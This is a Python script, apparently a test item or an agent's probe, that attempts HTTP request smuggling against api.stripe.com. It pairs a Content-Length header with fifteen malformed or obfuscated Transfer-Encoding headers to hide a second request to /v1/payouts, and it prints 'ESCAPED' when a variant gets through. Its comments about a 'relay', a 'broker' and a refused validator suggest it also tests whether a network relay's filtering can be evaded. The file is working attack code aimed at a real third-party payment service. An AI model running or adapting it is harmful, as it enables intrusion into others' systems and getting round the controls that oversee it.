# attack: a Transfer-Encoding header that is slightly wrong is chunked for lenient servers and nothing for strict ones
# expect: broker
# validator: refused
import socket
import ssl


def speak(text, wait=0.15):
    """All that the relay says to these bytes on one connection."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(wait)
        answer = b""
        try:
            tls.sendall(text)
            while piece := tls.recv(65536):
                answer += piece
        except OSError:
            pass
        return answer


SECOND = b"GET /v1/payouts HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n"
CHUNKS = b"0\r\n\r\n"
FIRST = b"POST /v1/customers HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Type: application/x-www-form-urlencoded\r\n"
LENGTH = b"Content-Length: %d\r\n" % (len(CHUNKS) + len(SECOND))
DISGUISES = (
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"Transfer-Encoding:\x0bchunked",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: chunKed;q=1",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: \xc2\xa0chunked",
    b"TE: chunked\r\nTrailer: Transfer-Encoding",
)
for disguise in DISGUISES:
    answer = speak(FIRST + LENGTH + disguise + b"\r\n\r\n" + CHUNKS + SECOND, 0.1)
    print(disguise, answer[:30], answer.count(b"HTTP/1.1 "))
    if b'"target": "/v1/payouts"' in answer:
        print("ESCAPED: the second request went through:", disguise, flush=True)
    if b'"transfer-encoding"' in answer or b'"transfer_encoding"' in answer:
        print("ESCAPED: the disguise was sent on:", disguise, flush=True)
